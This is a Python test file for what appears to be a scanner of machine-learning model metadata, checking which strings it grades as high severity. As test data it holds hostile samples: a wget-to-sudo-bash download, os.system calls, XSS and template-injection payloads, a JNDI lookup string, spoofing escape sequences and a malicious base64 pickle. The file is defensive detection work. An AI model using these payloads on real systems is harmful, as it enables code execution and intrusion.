"""Texts in a file: what is meant to be run is grave, what people write is not."""

from __future__ import annotations

import base64
import pickle

import pytest
from audit import corpus
from hypothesis import given
from hypothesis import strategies as st

from modelscan_bd.audit import sayings
from modelscan_bd.grades import Severity


def severities(text: str, *, source: bool = False) -> list[Severity]:
    return [remark.severity for remark in sayings.remarks(text, "BD926", "metadata", "note", source=source)]


@pytest.mark.parametrize(
    "text",
    [
        "__import__('os').system('true')",
        "os.system('true')",
        "subprocess.Popen(['true'])",
        "wget -qO- http://example.org/x | sudo bash",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>",
        "{{ ''.__class__.__mro__ }}",
        "\x1b]0;a title\x07",
        "\x1b[8mconcealed",
        "\u202etxt.exe",
    ],
)
def test_what_is_meant_to_be_run(text: str) -> None:
    assert severities(text) == [Severity.HIGH]


@pytest.mark.parametrize(
    "text",
    [
        "A ResNet, trained with lr=0.1. See https://example.org/model",
        "Install with `curl -O https://example.org/x`, then call model.eval() and compile(model).",
        "Namespace(exec='fast', eval=True, out='/home/someone/runs')",
        "\x1b[32mINFO\x1b[0m \x1b[48;5;8m done",
        "\u202b\u05e9\u05dc\u05d5\u05dd\u202c",
        "torch.hub.load('a', 'b'); self.subprocess = None",
    ],
)
def test_what_people_write(text: str) -> None:
    assert set(severities(text)) <= {Severity.INFO, Severity.LOW}


def test_an_encoded_pickle_is_as_grave_as_what_it_imports() -> None:
    harmful = corpus.stream(corpus.call("os.system", corpus.word("true")), 4) + bytes(20)
    harmless = pickle.dumps({"name": "a network with a long name"})
    assert severities(f"x = {base64.b64encode(harmful).decode()}") == [Severity.HIGH]
    assert severities(f"x = {base64.b64encode(harmless).decode()}") == [Severity.MEDIUM]


def test_lines_of_source_are_no_alarm_where_exporters_leave_them() -> None:
    assert severities("subprocess.run(['make'])", source=True) == [Severity.LOW]
    assert severities("${jndi:ldap://example.org/a}", source=True) == [Severity.HIGH], "no network's source has that"


@given(st.text(max_size=300))
def test_any_text_is_told_of_in_printable_words(text: str) -> None:
    assert all(remark.message.isprintable() for remark in sayings.remarks(text, "BD926", "metadata", "note"))
